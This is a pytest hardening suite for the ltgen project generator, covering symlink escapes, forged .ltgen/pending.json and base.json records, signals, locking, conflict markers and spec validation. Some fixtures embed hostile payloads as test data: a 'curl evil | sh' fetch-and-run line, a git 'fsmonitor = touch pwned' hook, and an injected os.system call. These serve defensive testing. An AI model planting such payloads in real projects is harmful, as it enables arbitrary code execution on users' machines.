"""Hardening (issue 9): what a crafted or damaged project, an odd folder, a signal, a second regen, a half-resolved
conflict, a huge or hostile spec can do to ltgen. Each test names the item it guards; each failed before the fix."""

from __future__ import annotations

import fcntl
import hashlib
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from ltgen import merge, place, render
from ltgen.spec import SCHEMA, SpecError, default_text, parse, with_values
from regen_helpers import edit_file, edit_spec, line_with, ltgen, make_project, rendered, replacing, texts, tree

CONFLICT_START, CONFLICT_END = merge.CONFLICT_START, merge.CONFLICT_END


def craft_pending(project: Path, writes: dict[str, str | None], *, over: str | None = None) -> None:
    """A .ltgen/pending.json as anyone could commit it: the writes of an 'interrupted regen', with their text.

    over: the text the write replaces (by default none: the file is created).
    """
    record = {
        "base": json.loads((project / place.BASE_FILE).read_text()),
        "writes": {
            relative: {"before": over and hashlib.sha256(over.encode()).hexdigest(), "after": text}
            for relative, text in writes.items()
        },
    }
    (project / place.PENDING_FILE).write_text(json.dumps(record))


def craft_base(project: Path, files: dict[str, str]) -> None:
    """Add entries to .ltgen/base.json, as anyone could commit them."""
    record = json.loads((project / place.BASE_FILE).read_text())
    record["files"] |= files
    (project / place.BASE_FILE).write_text(json.dumps(record))


# --- 1. symbolic links, and what .ltgen/ may ask for ----------------------------------------------


def test_pending_writes_through_a_symlinked_folder_are_refused_and_nothing_leaves_the_project(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".config/git").mkdir(parents=True)
    project = make_project(tmp_path / "demo")
    (project / "h").symlink_to(home)
    craft_pending(project, {"h/.config/git/config": "[core]\n\tfsmonitor = touch pwned\n", "h/x.sh": "touch pwned"})
    for command in ("regen", "diff"):
        result = ltgen(command, project)
        assert result.exit_code == 2, result.output
        assert "'h/.config/git/config', which is not a file ltgen generates" in result.output
    assert tree(home) == {}


def test_a_pending_write_to_a_generated_path_behind_a_symlink_is_refused(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    project = make_project(tmp_path / "demo")
    (project / "launch").symlink_to(outside)
    craft_pending(project, {"launch/torchrun.sh": "curl evil | sh\n"})
    result = ltgen("regen", project)
    assert result.exit_code == 2
    assert f"{project / 'launch'} is a symbolic link; ltgen never reads or writes through one" in result.output
    assert tree(outside) == {}


def test_a_base_entry_behind_a_symlinked_folder_deletes_nothing_outside(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim.txt").write_text("precious\n")
    project = make_project(tmp_path / "demo")
    (project / "ext").symlink_to(outside)
    craft_base(project, {"ext/victim.txt": "precious\n"})
    result = ltgen("regen", project)
    assert result.exit_code == 2
    assert f"{project / 'ext'} is a symbolic link" in result.output and "removed" not in result.output
    assert (outside / "victim.txt").read_text() == "precious\n"


def test_a_base_entry_for_a_file_ltgen_never_generates_leaves_that_file_alone(tmp_path: Path) -> None:
    project = make_project(tmp_path / "demo")
    (project / "notes.txt").write_text("my untracked notes\n")
    craft_base(project, {"notes.txt": "my untracked notes\n"})
    result = ltgen("regen", project)
    assert result.exit_code == 0, result.output
    assert "  untracked notes.txt (listed in .ltgen/base.json, but not a file ltgen generates" in result.output
    assert (project / "notes.txt").read_text() == "my untracked notes\n"
    assert "notes.txt" not in place.read_base(project).files


def test_every_file_ltgen_renders_is_one_it_may_delete() -> None:
    generated = render.emittable_paths()
    for overrides in ({}, {"cluster.gpus": 4, "cluster.slurm.enabled": True}):
        assert set(rendered(spec_with(overrides))) <= generated


def test_a_symlinked_generated_folder_stops_regen_before_it_writes_anything(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    project = make_project(tmp_path / "demo")
    (project / "launch").symlink_to(outside)
    edit_spec(project, {"cluster.gpus": 4})  # renders launch/torchrun.sh
    before = tree(project)
    result = ltgen("regen", project)
    assert result.exit_code == 2
    assert f"{project / 'launch'} is a symbolic link" in result.output
    assert tree(outside) == {} and tree(project) == before


def test_a_symlinked_generated_file_is_refused_not_replaced(tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere.py"
    outside.write_text("# not the project's\n")
    project = make_project(tmp_path / "demo")
    (project / "model.py").unlink()
    (project / "model.py").symlink_to(outside)
    edit_spec(project, {"model.arch": "cnn"})
    result = ltgen("regen", project)
    assert result.exit_code == 2 and f"{project / 'model.py'} is a symbolic link" in result.output
    assert (project / "model.py").is_symlink() and outside.read_text() == "# not the project's\n"


def test_new_force_refuses_a_symlinked_folder_and_moves_nothing(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    folder = tmp_path / "demo"
    folder.mkdir()
    (folder / "train.py").write_text("# mine\n")
    (folder / "tests").symlink_to(outside)
    result = ltgen("new", "demo", "--dir", tmp_path, "--force")
    assert result.exit_code == 2 and f"{folder / 'tests'} is a symbolic link" in result.output
    assert tree(outside) == {} and (folder / "train.py").read_text() == "# mine\n"
    assert sorted(p.name for p in folder.iterdir()) == ["tests", "train.py"]


def test_diff_shows_the_writes_pending_json_asks_for(tmp_path: Path) -> None:
    project = make_project(tmp_path / "demo")
    train = (project / "train.py").read_text()
    craft_pending(project, {"train.py": train + "import os; os.system('echo pwned')\n"}, over=train)
    shown = ltgen("diff", project)
    assert shown.exit_code == 0, shown.output
    assert "+import os; os.system('echo pwned')\n" in shown.output and "  updated   train.py" in shown.output
    assert "Nothing would change" not in shown.output


# --- 2. new --force never loses a byte -----------------------------------------------------------


def test_new_force_refuses_an_ltgen_project_and_points_to_regen(tmp_path: Path) -> None:
    project = make_project(tmp_path / "demo")
    edit_file(project, "train.py", lambda text: text + "# my edit\n")
    before = tree(project)
    result = ltgen("new", "demo", "--dir", tmp_path, "--force")
    assert result.exit_code == 2
    assert "is an ltgen project already, and --force never writes over one" in result.output
    assert f"ltgen regen {project}" in result.output
    assert tree(project) == before


def test_new_force_moves_each_file_it_replaces_aside_and_says_where(tmp_path: Path) -> None:
    folder = tmp_path / "demo"
    (folder / "data").mkdir(parents=True)
    mine = {"train.py": b"# my loop\n", "README.md": b"# my notes\n", "ltgen.toml": b"[trainer]\nmax_epochs = 1\n"}
    for relative, data in mine.items():
        (folder / relative).write_bytes(data)
    (folder / "data/raw.bin").write_bytes(b"\x00\x01")
    result = ltgen("new", "demo", "--dir", tmp_path, "--force")
    assert result.exit_code == 0, result.output
    for relative, data in mine.items():
        assert f"  {folder / relative} -> {folder / '.ltgen/replaced' / relative}" in result.output
        assert (folder / ".ltgen/replaced" / relative).read_bytes() == data
    assert (folder / "data/raw.bin").read_bytes() == b"\x00\x01"
    assert (folder / "train.py").read_text() == place.read_base(folder).files["train.py"]


# --- 3. an interrupted new leaves no staging folder ------------------------------------------------

SIGNALLED_NEW = """
import os, signal, sys
from pathlib import Path
from ltgen.cli import app

write_text = Path.write_text


def write_then_signal(self, *args, **kwargs):
    if any(part.startswith(".demo.ltgen-") for part in self.parts):  # a file of the staging folder
        os.kill(os.getpid(), signal.{signal})
    return write_text(self, *args, **kwargs)


Path.write_text = write_then_signal
signal.signal(signal.{signal}, signal.SIG_DFL)  # as a terminal leaves it (nohup would have it ignored: then so does ltgen)
app(["new", "demo", "--dir", sys.argv[1]])
"""


@pytest.mark.parametrize("name", ["SIGTERM", "SIGHUP"])
def test_a_termination_signal_during_new_removes_the_staging_folder(tmp_path: Path, name: str) -> None:
    script = SIGNALLED_NEW.replace("{signal}", name)
    command = [sys.executable, "-c", script, str(tmp_path)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode != 0, done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    assert list(tmp_path.iterdir()) == [], "neither a staging folder nor a half project is left"


def test_new_removes_the_staging_folders_that_killed_runs_left(tmp_path: Path) -> None:
    stale, other = tmp_path / ".demo.ltgen-k1ll3d00", tmp_path / ".other.ltgen-k1ll3d00"
    for folder in (stale, other):
        (folder / "launch").mkdir(parents=True)
        (folder / "train.py").write_text("# half\n")
        an_hour_ago = time.time() - 3600
        os.utime(folder, (an_hour_ago, an_hour_ago))
    result = ltgen("new", "demo", "--dir", tmp_path)
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == [".other.ltgen-k1ll3d00", "demo"]


# --- 4. one regen at a time -------------------------------------------------------------------------


def test_a_regen_while_another_one_runs_is_refused_with_exit_2(tmp_path: Path) -> None:
    project = make_project(tmp_path / "demo")
    edit_spec(project, {"cluster.gpus": 4})
    before = tree(project)
    running = os.open(project / ".ltgen", os.O_RDONLY)  # what a running regen holds: its lock on .ltgen/
    try:
        fcntl.flock(running, fcntl.LOCK_EX)
        for command in ("regen", "diff"):
            result = ltgen(command, project)
            assert result.exit_code == 2, result.output
            assert f"another ltgen regen is running in {project}; wait for it to finish" in result.output
        assert tree(project) == before
    finally:
        os.close(running)
    assert ltgen("regen", project).exit_code == 0


# --- 5. half-removed conflict markers ---------------------------------------------------------------


def conflicted_project(path: Path) -> Path:
    """A project whose steps.py regen left with one conflict block (the user tuned the optimizer line)."""
    project = make_project(path)
    edit_file(project, "steps.py", lambda text: text + '\n\nBANNER = """\n=======\n"""\n')  # a bare ======= of theirs
    mine = line_with((project / "steps.py").read_text(), "optimizer = torch.optim.") + "  # tuned"
    edit_file(project, "steps.py", replacing("optimizer = torch.optim.", mine))
    edit_spec(project, {"optim.betas": [0.9, 0.95]})  # the spec changes that same line
    assert ltgen("regen", project).exit_code == 1
    return project


def without_lines(path: Path, *starts: str) -> None:
    path.write_text("".join(line for line in path.read_text().splitlines(True) if not line.startswith(starts)))


def test_a_conflict_with_some_marker_lines_deleted_is_still_unresolved(tmp_path: Path) -> None:
    project = conflicted_project(tmp_path / "demo")
    steps = project / "steps.py"
    without_lines(steps, "<<<<<<<", ">>>>>>>")
    lines = steps.read_text().splitlines()
    base_marker, separator = lines.index(merge.CONFLICT_BASE) + 1, lines.index("=======") + 1
    refused = ltgen("regen", project)
    assert refused.exit_code == 2
    assert f"conflict markers from the last regen remain in steps.py:{base_marker}, steps.py:{separator}," in (
        refused.output
    )

    without_lines(steps, "|||||||")
    assert ltgen("regen", project).exit_code == 2, "a lone ======= left by the conflict still counts"

    lines = steps.read_text().splitlines(keepends=True)
    mine = next(n for n, line in enumerate(lines) if line.endswith("# tuned\n"))
    assert lines[mine + 2] == "=======\n"
    steps.write_text("".join(lines[:mine] + lines[mine + 3 :]))  # keep the regenerated line only
    result = ltgen("regen", project)
    assert result.exit_code == 0 and "Nothing changed" in result.output, result.output
    assert '\nBANNER = """\n=======\n"""\n' in steps.read_text(), "the user's own ======= is code, not a marker"


# --- 6. the spec check takes linear time ------------------------------------------------------------


def checked_within(path: Path, seconds: float) -> str:
    start = time.perf_counter()
    result = ltgen("check", path)
    elapsed = time.perf_counter() - start
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert elapsed < seconds, f"ltgen check took {elapsed:.2f} s on {path.stat().st_size} bytes"
    return result.output


SLOW_BEFORE = {  # specs whose check took seconds to minutes (super-linear), each at most 1 MB
    "a long line in a string (4 KB)": '[project]\nname = """\n[' + " " * 4000 + '\n"""\n',
    "a long line in a string (1 MB)": '[project]\nname = """\n[' + " a" * 500_000 + '\n"""\n',
    "8000 unknown keys": "[trainer]\n" + "".join(f"max_epoch{i} = {i}\n" for i in range(8000)),
    "a list of 330,000 numbers": "[model]\nhidden_sizes = [" + "1, " * 330_000 + "]\n",
    "arrays nested 100,000 deep": "[model]\nhidden_sizes = " + "[" * 100_000 + "]" * 100_000 + "\n",
}


@pytest.mark.parametrize("name", SLOW_BEFORE)
def test_checking_a_spec_takes_linear_time(tmp_path: Path, name: str) -> None:
    path = tmp_path / "ltgen.toml"
    path.write_text(SLOW_BEFORE[name])
    output = checked_within(path, 1.0)
    assert max(map(len, output.splitlines())) < 400, "values in messages are cut short"


# --- 9. the spec: numbers, types, files and folders -----------------------------------------------


def spec_with(overrides: dict[str, Any]) -> str:
    return with_values(default_text("demo"), overrides)


def problems_of(text: str) -> list[str]:
    with pytest.raises(SpecError) as caught:
        parse(text)
    return [str(problem) for problem in caught.value.problems]


FLOAT_KEYS = [
    "optim.lr",
    "optim.weight_decay",
    "trainer.gradient_clip_val",
    "early_stopping.min_delta",
    "checkpoint.every_n_minutes",
]


@pytest.mark.parametrize("key", FLOAT_KEYS)
@pytest.mark.parametrize("value", [float("inf"), float("nan"), float("-inf")])
def test_non_finite_numbers_are_refused(key: str, value: float) -> None:
    found = problems_of(spec_with({key: value}))
    assert len(found) == 1 and f"{key}: expected a finite number" in found[0] and f"got {value}" in found[0], found


INTEGER_KEYS = [
    f"{section}.{key}"
    for section, schema in SCHEMA.items()
    for key, spec_key in schema.keys.items()
    if isinstance(spec_key.default, int) and not isinstance(spec_key.default, bool)
]


ENUMERATED_INTEGER_KEYS = {"model.depth": "one of 10, 18, 34"}  # bounded by their few allowed values


@pytest.mark.parametrize("key", INTEGER_KEYS)
def test_every_integer_key_has_an_upper_bound(key: str) -> None:
    found = problems_of(spec_with({key: 10**23}))
    if key in ENUMERATED_INTEGER_KEYS:
        assert found == [
            f"ltgen.toml:{found[0].split(':')[1]}: {key}: expected {ENUMERATED_INTEGER_KEYS[key]}, got {10**23}"
        ]
        return
    assert len(found) == 1 and f"{key}: expected an integer" in found[0] and "<= " in found[0], found


def test_the_seed_is_a_32_bit_unsigned_integer_as_in_lightning() -> None:
    assert parse(spec_with({"trainer.seed": 2**32 - 1}))["trainer"]["seed"] == 2**32 - 1
    (found,) = problems_of(spec_with({"trainer.seed": 2**32}))
    assert found.endswith(": trainer.seed: expected an integer >= 0 and <= 4294967295, got 4294967296")


def test_widths_in_lists_have_an_upper_bound() -> None:
    found = problems_of(spec_with({"model.hidden_sizes": [128, 10**23]}))
    assert len(found) == 1 and "model.hidden_sizes: expected a list of 0 to 8 integers >= 1 and <= " in found[0]


def test_no_validation_samples_is_refused_unless_validation_is_off() -> None:
    (found,) = problems_of(spec_with({"data.val_fraction": 0.0}))
    assert "data.val_fraction: " in found and "trainer.limit_val_batches = 0" in found
    off = spec_with({"data.val_fraction": 0.0, "trainer.limit_val_batches": 0, "checkpoint.save_top_k": 0})
    assert parse(off)["trainer"]["limit_val_batches"] == 0


def test_slurm_time_takes_ascii_digits_only() -> None:
    (found,) = problems_of(spec_with({"cluster.slurm.time": "١٢:٠٠:٠٠"}))
    assert 'cluster.slurm.time: expected a SLURM time limit such as "04:00:00"' in found


def one_error(result: Any) -> str:
    """The one line an error gives (exit 2, no traceback), without the count of problems after a spec's."""
    assert result.exit_code == 2, result.output
    lines = [
        line for line in result.output.splitlines() if not re.fullmatch(r"1 problem in .*; nothing was written\.", line)
    ]
    assert len(lines) == 1 and "Traceback" not in result.output, result.output
    return lines[0]


def test_a_spec_that_is_not_utf8_or_starts_with_a_bom_is_one_clear_line(tmp_path: Path) -> None:
    latin1, bom = tmp_path / "latin1.toml", tmp_path / "bom.toml"
    latin1.write_bytes(b'[project]\nname = "caf\xe9"\n')
    bom.write_bytes(b"\xef\xbb\xbf[trainer]\nmax_epochs = 3\n")
    assert one_error(ltgen("check", latin1)) == f"{latin1}:2: not UTF-8 text (byte 0xe9): save it as UTF-8"
    assert "not UTF-8 text" in one_error(ltgen("new", "x", "--dir", tmp_path / "out", "--spec", latin1))
    message = f"{bom}:1: starts with a byte order mark (BOM): save it as UTF-8 without one"
    assert one_error(ltgen("check", bom)) == message
    project = make_project(tmp_path / "demo")
    (project / "ltgen.toml").write_bytes(b"# caf\xe9\n" + (project / "ltgen.toml").read_bytes())
    assert "ltgen.toml:1: not UTF-8 text" in one_error(ltgen("regen", project))


def test_new_into_a_folder_it_cannot_write_is_one_clear_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def denied(*args: Any, **kwargs: Any) -> str:  # as a read-only folder does (the tests may run as root)
        raise PermissionError(13, "Permission denied", str(tmp_path))

    monkeypatch.setattr(place, "tempfile", SimpleNamespace(mkdtemp=denied))
    assert one_error(ltgen("new", "x", "--dir", tmp_path)) == f"error: cannot write into {tmp_path} (Permission denied)"
    assert list(tmp_path.iterdir()) == []


def test_new_with_a_file_or_a_dangling_link_in_the_way_is_one_clear_line(tmp_path: Path) -> None:
    (tmp_path / "notes").write_text("mine\n")
    (tmp_path / "gone").symlink_to(tmp_path / "nowhere")
    error = one_error(ltgen("new", "x", "--dir", tmp_path / "notes"))
    assert (
        error
        == f"error: {tmp_path / 'notes'} is a file, not a folder: give --dir a folder (it is created when missing)"
    )
    assert one_error(ltgen("new", "notes", "--dir", tmp_path)).startswith(f"error: {tmp_path / 'notes'} is a file,")
    assert "is a symbolic link" in one_error(ltgen("new", "gone", "--dir", tmp_path))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["gone", "notes"]


def test_new_sets_flags_in_an_inline_table(tmp_path: Path) -> None:
    source = tmp_path / "mine.toml"
    source.write_text("cluster = {gpus = 1}\n")
    result = ltgen("new", "x", "--dir", tmp_path, "--spec", source, "--slurm")
    assert result.exit_code == 0, result.output
    spec = parse((tmp_path / "x/ltgen.toml").read_text())
    assert spec["cluster"]["gpus"] == 1 and spec["cluster.slurm"]["enabled"] is True


@pytest.mark.parametrize("path", [".", "", "a//b", "./train.py", "launch/./x.sh"])
def test_odd_paths_in_base_json_are_damage_not_a_traceback(tmp_path: Path, path: str) -> None:
    project = make_project(tmp_path / "demo")
    craft_base(project, {path: ""})
    assert "base.json is damaged" in one_error(ltgen("regen", project))


# --- 12. line endings, messages, partial and refused regens ----------------------------------------


def test_a_generated_file_converted_to_crlf_merges_and_keeps_crlf(tmp_path: Path) -> None:
    project = make_project(tmp_path / "demo")
    for relative in ("steps.py", "model.py"):
        (project / relative).write_bytes((project / relative).read_bytes().replace(b"\n", b"\r\n"))
    unchanged = ltgen("regen", project)
    assert unchanged.exit_code == 0 and "Nothing changed" in unchanged.output, unchanged.output

    (project / "model.py").write_bytes((project / "model.py").read_bytes() + b"# mine\r\n")
    text = edit_spec(project, {"optim.optimizer": "sgd", "model.arch": "cnn"})
    result = ltgen("regen", project)
    assert result.exit_code == 0, result.output
    assert {"  updated   steps.py", "  merged    model.py"} <= set(result.output.splitlines())
    expected = rendered(text)
    assert (project / "steps.py").read_bytes() == expected["steps.py"].replace("\n", "\r\n").encode()
    assert (project / "model.py").read_bytes() == (expected["model.py"] + "# mine\n").replace("\n", "\r\n").encode()


def test_the_cd_hint_is_shell_quoted(tmp_path: Path) -> None:
    result = ltgen("new", "demo", "--dir", tmp_path / "my runs")
    assert result.exit_code == 0, result.output
    assert f"  cd '{tmp_path}/my runs/demo'" in result.output.splitlines()


def test_a_regen_that_fails_half_way_says_so_and_a_rerun_finishes_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = make_project(tmp_path / "demo")
    text = edit_spec(project, {"model.arch": "cnn", "optim.optimizer": "sgd"})
    write = place.write_file

    def denied_for_steps(path: Path, text: str, mode: int = 0o644) -> None:
        if path.name == "steps.py":
            raise PermissionError(13, "Permission denied", str(path))
        write(path, text, mode)

    monkeypatch.setattr(place, "write_file", denied_for_steps)
    failed = ltgen("regen", project)
    assert failed.exit_code == 2
    assert f"cannot write {project / 'steps.py'} (Permission denied), so the project is only partly updated" in (
        failed.output
    )
    assert "run ltgen regen again to finish the job" in failed.output
    assert (project / "model.py").read_text() == rendered(text)["model.py"], "model.py was written before"

    monkeypatch.setattr(place, "write_file", write)
    rerun = ltgen("regen", project)
    assert rerun.exit_code == 0, rerun.output
    assert "An interrupted regen left" in rerun.output
    assert {k: v for k, v in texts(project).items() if k != "ltgen.toml"} == {
        **rendered(text),
        place.BASE_FILE: place.base_text(text, rendered(text)),
    }


def test_a_read_only_file_regen_would_change_is_refused_with_its_path(tmp_path: Path) -> None:
    project = make_project(tmp_path / "demo")
    (project / "steps.py").chmod(0o444)
    edit_spec(project, {"optim.optimizer": "sgd"})
    before = tree(project)
    result = ltgen("regen", project)
    assert result.exit_code == 2
    assert f"regen would change {project / 'steps.py'}, but you made it read-only" in result.output
    assert tree(project) == before and (project / "steps.py").stat().st_mode & 0o777 == 0o444
